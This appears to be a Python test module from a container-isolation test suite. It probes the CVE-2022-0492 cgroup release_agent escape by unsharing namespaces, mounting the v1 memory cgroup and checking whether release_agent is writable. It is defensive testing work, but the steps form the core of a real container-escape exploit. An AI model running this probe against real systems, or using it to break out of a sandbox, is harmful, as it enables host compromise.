"""Have the host's kernel run a program when a control group empties."""

import os

from tests.attacks.attack import (
    CLONE_NEWNS,
    CLONE_NEWUSER,
    absent,
    first_writable,
    held,
    mount,
    syscall,
)

FENCE = "cgroup namespace, user namespace"
CONTROL = "machine"
LACKS = "the kernel has no version 1 of control groups"
SOURCE = "CVE-2022-0492"

with open("/proc/filesystems") as file:
    if "nodev\tcgroup\n" not in file:
        absent("there is but version 2")
os.makedirs("/tmp/cgroup", exist_ok=True)
try:
    if os.geteuid():
        syscall("unshare", CLONE_NEWUSER | CLONE_NEWNS)
    mount("cgroup", "/tmp/cgroup", "cgroup", 0, "memory")
except OSError as failure:
    held(failure)
first_writable(["/tmp/cgroup/release_agent"])
